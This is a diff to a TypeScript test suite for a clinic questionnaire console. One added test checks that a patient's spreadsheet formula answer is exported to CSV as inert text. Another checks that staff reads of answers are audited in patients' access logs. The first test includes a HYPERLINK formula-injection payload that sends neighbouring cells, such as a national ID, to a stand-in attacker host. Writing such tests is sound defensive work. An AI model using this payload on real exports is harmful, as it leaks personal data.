@@ -4,7 +4,8 @@ import { outbox, programInvitations, staffReads } from '../../db/schema/index';
 import { createTestApp, type TestApp } from '../../test/helper';
 import { clinicMember, demoUnitIds } from '../../test/clinic-members';
 import { clinicDayYearsAgo, ownPatientIdOf } from '../../test/fixtures';
-import { adminCookie, everyFormat, makeProgram, makeQuestionnaire } from '../../test/questionnaire-kit';
+import { isFormula, readCsv } from '../../test/spreadsheet-csv';
+import { adminCookie, everyFormat, goodAnswers, makeProgram, makeQuestionnaire } from '../../test/questionnaire-kit';
 
 /** The clinic console's questionnaires: versions, assignments, answers (list, per patient, CSV), programmes and invitations; and the seed. */
 
@@ -107,6 +108,79 @@ describe('answers: list, per patient, CSV', () => {
     expect((await call('GET', '/clinic/questionnaires/999999/fulfillments.csv')).statusCode).toBe(404);
     const registrar = await clinicMember(t, ['REGISTRAR']);
     expect((await call('GET', `/clinic/questionnaires/${chuk.questionnaireId}/fulfillments.csv`, undefined, registrar.cookie)).statusCode).toBe(403);
+  });
+
+  it("exports a patient's formula answer as inert text beside the other patients' intact columns", async () => {
+    const q = await makeQuestionnaire(t, admin, { title: 'Ankieta z uwagami', description: null, deadlineDays: 7, sections: [{ title: 'Uwagi', questions: [{ orderNumber: 1, text: 'Uwagi', format: 'TEXT', required: true, maxLength: 200 }] }] });
+    const program = await makeProgram(t, admin, q.id, { name: 'Program z uwagami' });
+    const attack = '=HYPERLINK("http://zly.example/?"&B3&C3,"Kliknij")';
+    for (const [lastName, text] of [['Atakujący', attack], ['Ofiara', 'Bez uwag']]) {
+      const account = await t.make.account();
+      const patient = await t.make.patient({ accountId: account.id, birthDate: clinicDayYearsAgo(45), lastName });
+      const res = await t.request({
+        method: 'POST',
+        url: '/api/mppd/api/programs/questionnaire',
+        cookie: await t.as(account.id),
+        payload: { programPatientParams: { programId: program.id, patientId: patient.id, accountId: account.id, systemRoot: 'PORTAL', tenantId: 1 }, questionnaireFulfillment: { questionnaireId: q.versionId, answers: [{ orderNumber: 1, format: 'TEXT', value: text }] } },
+      });
+      expect(res.statusCode, res.body).toBe(201);
+    }
+    const csv = await call('GET', `/clinic/questionnaires/${q.id}/fulfillments.csv`);
+    const [header, ...rows] = readCsv(csv.rawPayload.toString('utf8').trimEnd());
+    expect(header).toEqual(['Data wypełnienia', 'Pacjent', 'PESEL', 'Kontekst', 'Wersja ankiety', '1. Uwagi']);
+    expect(rows).toHaveLength(2);
+    for (const row of rows) expect(row).toHaveLength(6);
+    expect(rows.flat().filter(isFormula)).toEqual([]);
+    const attacker = rows.find((r) => r[1].startsWith('Atakujący '));
+    expect(attacker?.slice(3)).toEqual(['Program: Program z uwagami', '1', `'${attack}`]);
+    const victim = rows.find((r) => r[1].startsWith('Ofiara '));
+    expect(victim?.slice(3)).toEqual(['Program: Program z uwagami', '1', 'Bez uwag']);
+    for (const row of rows) expect(row[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
+  });
+
+  it('writes one QUESTIONNAIRE_ANSWERS row per patient for the answer list and the export, shown in each patient’s access log', async () => {
+    const q = await makeQuestionnaire(t, admin, everyFormat({ title: 'Ankieta audytowana' }));
+    const program = await makeProgram(t, admin, q.id, { name: 'Program audytowany' });
+    const people: Array<{ patientId: number; cookie: string }> = [];
+    for (const lastName of ['Pierwsza', 'Druga']) {
+      const account = await t.make.account();
+      const patient = await t.make.patient({ accountId: account.id, birthDate: clinicDayYearsAgo(45), lastName });
+      const cookie = await t.as(account.id);
+      const res = await t.request({
+        method: 'POST',
+        url: '/api/mppd/api/programs/questionnaire',
+        cookie,
+        payload: { programPatientParams: { programId: program.id, patientId: patient.id, accountId: account.id, systemRoot: 'PORTAL', tenantId: 1 }, questionnaireFulfillment: goodAnswers(q.versionId) },
+      });
+      expect(res.statusCode, res.body).toBe(201);
+      people.push({ patientId: patient.id, cookie });
+    }
+    const ids = people.map((p) => p.patientId).sort();
+    const doctor = await clinicMember(t, ['DOCTOR']);
+    const readsBy = async () => (await t.deps.db.select().from(staffReads).where(eq(staffReads.staffId, doctor.id))).map((r) => ({ patientId: r.patientId, what: r.what, requestId: r.requestId }));
+
+    expect((await call('GET', `/clinic/questionnaires/${q.id}/fulfillments`, undefined, doctor.cookie)).statusCode).toBe(200);
+    const listed = await readsBy();
+    expect(listed.map((r) => r.patientId).sort()).toEqual(ids);
+    expect(listed.every((r) => r.what === 'QUESTIONNAIRE_ANSWERS')).toBe(true);
+    expect(new Set(listed.map((r) => r.requestId)).size).toBe(1);
+
+    expect((await call('GET', `/clinic/questionnaires/${q.id}/fulfillments.csv`, undefined, doctor.cookie)).statusCode).toBe(200);
+    const exported = (await readsBy()).slice(2);
+    expect(exported.map((r) => r.patientId).sort()).toEqual(ids);
+    expect(new Set(exported.map((r) => r.requestId)).size).toBe(1);
+
+    // An export of days nobody answered names nobody and writes nothing.
+    expect((await call('GET', `/clinic/questionnaires/${q.id}/fulfillments.csv?after=2020-01-01&before=2020-12-31`, undefined, doctor.cookie)).statusCode).toBe(200);
+    expect(await readsBy()).toHaveLength(4);
+
+    for (const person of people) {
+      const log = (await t.request({ method: 'GET', url: '/api/mpi/accounts/mpi-user/access-log', cookie: person.cookie })).json();
+      expect(log.items).toEqual([
+        expect.objectContaining({ what: 'QUESTIONNAIRE_ANSWERS', staffRoles: ['DOCTOR'], patient: expect.objectContaining({ id: person.patientId }) }),
+        expect.objectContaining({ what: 'QUESTIONNAIRE_ANSWERS', staffRoles: ['DOCTOR'], patient: expect.objectContaining({ id: person.patientId }) }),
+      ]);
+    }
   });
 
   it("lists a patient's answers for the clinic and audits the read", async () => {
